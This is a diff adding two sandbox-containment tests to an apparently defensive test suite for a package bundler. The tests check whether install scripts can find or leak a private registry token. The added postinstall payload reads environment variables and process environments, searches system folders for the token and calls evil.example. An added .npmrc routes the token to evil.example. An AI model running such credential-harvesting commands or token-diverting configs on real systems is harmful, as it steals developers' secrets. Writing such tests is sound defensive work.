@@ -7,6 +7,8 @@ import { DependencyStore } from "../../server/drivers/bundler/dependencies/depen
 import { createTestMirror } from "../support/builds/create-bundler.ts";
 import { createCheckout } from "../support/builds/bundle-checkout.ts";
 import { installCheckout } from "../support/builds/install-checkout.ts";
+import { privateRegistry, REGISTRY_TOKEN } from "../support/builds/private-registry.ts";
+import type { PublicHosts } from "../support/builds/public-hosts.ts";
 import { type PublishedPackage, startRegistry } from "../support/builds/test-registry.ts";
 import type { Attack, AttackEnvironment, AttackResult } from "./attack.ts";
 
@@ -55,6 +57,8 @@ export const INSTALL_ATTACKS: readonly Attack[] = [
   { name: "An install script that changes what other apps install", through: "build", run: changeOthers },
   { name: "An install script that looks for copies, caches and tokens of others", through: "build", run: findOthers },
   { name: "An install script that sends data to other hosts", through: "build", run: reachHosts },
+  { name: "An install script that looks for the token of a private registry", through: "build", run: findToken },
+  { name: "An .npmrc that sends the token of a private registry to another host", through: "build", run: divertToken },
 ];
 
 interface InstallEnvironment extends AsyncDisposable {
@@ -130,4 +134,49 @@ async function reachHosts(environment: AttackEnvironment): Promise<AttackResult>
   const cached = await readdir(path.join(environment.folder, "packages"), { recursive: true });
   const isContained = connections === 0 && sent.length === 0 && cached.length > 0;
   return { isContained, text: `${connections} connections to a host, ${sent.length} other requests to the registry` };
+}
+
+/** Looks for the token, asks the mirror for it, and sends what it has to another host. */
+const FIND_TOKEN = `import { execSync } from "node:child_process";
+  execSync("(env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\\\0' '\\\\n';" +
+    " grep -rs ${REGISTRY_TOKEN} /build /scratch /tmp /run /etc /root --exclude=attack.mjs; curl -sx http://127.0.0.1:3128 -H 'x: y' http://packages.invalid/@acme/tool;" +
+    " curl -skx http://127.0.0.1:3128 https://evil.example/) >/build/found.txt 2>&1; true");`;
+
+const ACME = { url: "https://npm.acme.example/", scope: "@acme", token: REGISTRY_TOKEN };
+
+async function findToken(environment: AttackEnvironment): Promise<AttackResult> {
+  await using hosts = await privateRegistry({ scripts: { postinstall: "node /build/attack.mjs" } });
+  const found = await installFrom(hosts, environment, { "attack.mjs": FIND_TOKEN });
+  const leaks = found.split("\n").filter((line) => line.includes(REGISTRY_TOKEN) && !line.includes("grep -rs"));
+  return judgeToken(hosts, found !== "" && leaks.length === 0);
+}
+
+async function divertToken(environment: AttackEnvironment): Promise<AttackResult> {
+  await using hosts = await privateRegistry();
+  const npmrc =
+    "@acme:registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n//npm.acme.example/:_authToken=${NPM_TOKEN}\nregistry=https://evil.example/\n";
+  await installFrom(hosts, environment, { ".npmrc": npmrc }).catch(() => "");
+  return judgeToken(hosts, true);
+}
+
+async function installFrom(
+  hosts: PublicHosts,
+  { folder }: AttackEnvironment,
+  files: Readonly<Record<string, string>>,
+): Promise<string> {
+  await using registry = await startRegistry(PACKAGES);
+  const packages = createTestMirror({ registry: registry.url }, path.join(folder, "packages"), hosts.remote);
+  const dependencies = { "@acme/tool": "1.0.0" };
+  await using checkout = await createCheckout({
+    "package.json": JSON.stringify({ name: "app", homepage: "https://evil.example/", dependencies }),
+    ...files,
+  });
+  await installCheckout(packages, checkout, null, {}, ACME);
+  return readFile(path.join(checkout.sourceDirectory, "found.txt"), "utf8").catch(() => "");
+}
+
+function judgeToken({ requests }: PublicHosts, isHidden: boolean): AttackResult {
+  const sent = requests.filter(({ url, authorization }) => authorization !== undefined && !url.startsWith("npm.acme."));
+  const isContained = isHidden && sent.length === 0;
+  return { isContained, text: `token ${isHidden ? "not found" : "found"}, sent to ${sent.length} other hosts` };
 }
